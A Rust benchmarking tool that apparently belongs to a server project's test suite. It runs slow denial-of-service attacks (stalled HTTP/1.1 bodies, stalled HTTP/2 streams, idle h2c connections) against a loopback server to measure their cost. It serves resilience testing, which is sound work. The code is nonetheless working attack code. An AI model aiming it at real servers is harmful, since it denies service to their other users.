//! A hostile host, for measuring what it costs everyone else (BENCHMARKS.md,
//! `bench/wrk.sh` with `ATTACK=`). Runs one attack from a local address of
//! its own until it is killed, keeping it at strength (a request or
//! connection the server answers or closes is opened again after `PAUSE`,
//! 5 s: the attack is the slow kind, whose cost to the attacker is tiny;
//! without the pause it is a plain flood of refused requests), and prints
//! what the server answered every 5 s.
//!
//! ```text
//! attack stalled-h1 ADDR FROM [N=1100]     N HTTP/1.1 requests declaring a 60-byte body, one byte every 5 s
//! attack stalled-h2 ADDR FROM [N=9]        N h2c connections × 128 streams, bodies stalled the same way
//! attack idle-h2    ADDR FROM [N=4200]     N h2c connections that send nothing (and answer pings)
//! ```
//!
//! ADDR is the server (`127.0.0.1:18080`), FROM the attacker's address
//! (`127.0.0.2`: any address of 127/8 reaches loopback).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout,
    clippy::print_stderr,
    clippy::indexing_slicing
)]

use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

type Tally = Arc<Mutex<BTreeMap<String, u64>>>;

fn count(tally: &Tally, what: impl Into<String>) {
    *tally.lock().unwrap().entry(what.into()).or_default() += 1;
}

async fn connect(from: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(to).await
}

/// How long a slot waits after its request or connection ended.
const PAUSE: Duration = Duration::from_secs(5);

const HEAD: &str = "POST /api/privacy/v1/relays/challenge HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60\r\n\r\n";

/// One stalled HTTP/1.1 request, again and again.
async fn stalled_h1(from: IpAddr, to: SocketAddr, tally: Tally) {
    loop {
        let Ok(stream) = connect(from, to).await else {
            count(&tally, "connect failed");
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        let (mut read, mut write) = stream.into_split();
        let trickle = tokio::spawn(async move {
            if write.write_all(HEAD.as_bytes()).await.is_err() {
                return;
            }
            for _ in 0..59 {
                if write.write_all(b" ").await.is_err() {
                    return;
                }
                tokio::time::sleep(Duration::from_secs(5)).await;
            }
            std::future::pending::<()>().await;
        });
        let mut buf = [0u8; 512];
        let status = match read.read(&mut buf).await {
            Ok(n) if n > 0 => {
                String::from_utf8_lossy(&buf[..n]).split_whitespace().nth(1).unwrap_or("garbled").to_owned()
            }
            _ => "closed".to_owned(),
        };
        trickle.abort();
        count(&tally, status);
        tokio::time::sleep(PAUSE).await;
    }
}

/// One h2c connection; with `streams`, keeps that many stalled streams open
/// on it, else stays idle. Returns when the server closes it.
async fn h2_connection(from: IpAddr, to: SocketAddr, streams: usize, tally: &Tally) {
    let Ok(tcp) = connect(from, to).await else {
        count(tally, "connect failed");
        return tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let Ok((send, connection)) = h2::client::handshake(tcp).await else {
        return count(tally, "handshake failed");
    };
    let driver = tokio::spawn(connection);
    let mut open = tokio::task::JoinSet::new();
    let mut bodies = Vec::new();
    for _ in 0..streams {
        let Ok(Ok(mut ready)) = tokio::time::timeout(Duration::from_secs(1), send.clone().ready()).await else { break };
        let request = http::Request::post("http://x/api/privacy/v1/relays/challenge")
            .header("content-type", "application/json")
            .header("content-length", "60")
            .body(())
            .unwrap();
        let Ok((response, mut body)) = ready.send_request(request, false) else { break };
        let _ = body.send_data(bytes::Bytes::from_static(b"{"), false);
        bodies.push(body);
        open.spawn(response);
    }
    while let Some(answer) = open.join_next().await {
        match answer {
            Ok(Ok(r)) => count(tally, r.status().as_u16().to_string()),
            _ => count(tally, "reset"),
        }
    }
    let _ = driver.await;
    count(tally, if streams == 0 { "idle connection closed" } else { "connection closed" });
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().collect();
    let usage = "attack stalled-h1|stalled-h2|idle-h2 ADDR FROM [N]";
    let (Some(kind), Some(to), Some(from)) = (args.get(1), args.get(2), args.get(3)) else { panic!("{usage}") };
    let to: SocketAddr = to.parse().expect(usage);
    let from: IpAddr = from.parse().expect(usage);
    let default = match kind.as_str() {
        "stalled-h1" => 1100,
        "stalled-h2" => 9,
        "idle-h2" => 4200,
        _ => panic!("{usage}"),
    };
    let n: usize = args.get(4).map_or(default, |n| n.parse().expect(usage));
    let tally: Tally = Arc::default();
    for _ in 0..n {
        let (tally, kind) = (Arc::clone(&tally), kind.clone());
        tokio::spawn(async move {
            match kind.as_str() {
                "stalled-h1" => stalled_h1(from, to, tally).await,
                "stalled-h2" => loop {
                    h2_connection(from, to, 128, &tally).await;
                    tokio::time::sleep(PAUSE).await;
                },
                _ => loop {
                    h2_connection(from, to, 0, &tally).await;
                    tokio::time::sleep(PAUSE).await;
                },
            }
        });
        // Opened one after another: a burst would only overflow the backlog.
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    let mut tick = tokio::time::interval(Duration::from_secs(5));
    loop {
        tick.tick().await;
        eprintln!("attack {kind} x{n}: {:?}", tally.lock().unwrap());
    }
}
